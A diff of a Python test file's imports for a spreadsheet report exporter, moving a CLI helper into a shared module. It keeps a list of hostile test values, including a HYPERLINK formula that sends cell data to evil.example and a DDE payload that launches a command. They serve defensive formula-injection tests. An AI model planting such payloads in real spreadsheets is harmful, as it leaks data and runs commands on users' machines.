@@ -2,7 +2,6 @@
 formula injection, atomic writing, periods and the command line."""
 from __future__ import annotations
 
-import io
 import json
 import re
 import uuid
@@ -12,7 +11,6 @@ from datetime import date, datetime
 import openpyxl
 import pytest
 
-from app.cli import run
 from app.errors import InvalidValue
 from app.organizations import by_code, front_committee_id
 from app.people import add_person, join_organization
@@ -21,16 +19,11 @@ from app.progress import Cancelled
 from app.report_data import META_KEYS, ReportRejected, read_report
 from app.report_workbook import export_report
 from app.tasks import add_task
+from tests.helpers import cli
 from tests.report_commune import build
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-x", "@SUM(A1:A9)", "\t=1+2",
            "=cmd|' /C calc'!A0"]
-
-
-def cli(*argv: str) -> tuple[int, str, str]:
-    out, err = io.StringIO(), io.StringIO()
-    code = run(list(argv), out=out, err=err)
-    return code, out.getvalue(), err.getvalue()
 
 
 @pytest.fixture
